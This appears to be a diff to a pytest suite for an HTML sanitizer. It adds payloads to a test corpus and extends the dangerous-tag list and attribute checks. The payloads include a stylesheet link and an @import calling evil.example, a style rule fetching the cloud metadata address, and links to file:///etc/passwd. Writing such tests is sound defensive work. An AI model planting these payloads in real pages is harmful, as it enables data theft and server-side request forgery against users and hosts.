@@ -34,9 +34,14 @@ CORPUS = [
     "<object data=x></object><embed src=x>",
     "<math><mtext><script>alert(1)</script></mtext></math>",
     '<form action="http://evil.example"><input name=x></form>',
+    '<link rel="stylesheet" href="http://evil.example/x.css">',
+    "<style>@import url(http://evil.example/x.css);</style>",
+    '<p style="background:url(http://169.254.169.254/latest/meta-data/)">x</p>',
+    '<a rel="attachment" href="file:///etc/passwd">passwd</a>',
+    '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
 ]
 
-DANGEROUS_TAGS = {"script", "iframe", "img", "svg", "style", "object", "embed", "math", "form", "input", "div"}
+DANGEROUS_TAGS = {"script", "iframe", "img", "svg", "style", "object", "embed", "math", "form", "input", "div", "link", "image"}
 
 
 def _assert_inert_html(fragment: str) -> None:
@@ -48,6 +53,8 @@ def _assert_inert_html(fragment: str) -> None:
             assert name not in {"style", "src", "srcset", "action", "formaction"}, fragment
             if name == "href":
                 assert re.match(r"(https?:|mailto:|#)", value or ""), fragment
+            if name == "rel":
+                assert "attachment" not in (value or ""), fragment
 
 
 @pytest.mark.parametrize("payload", CORPUS)
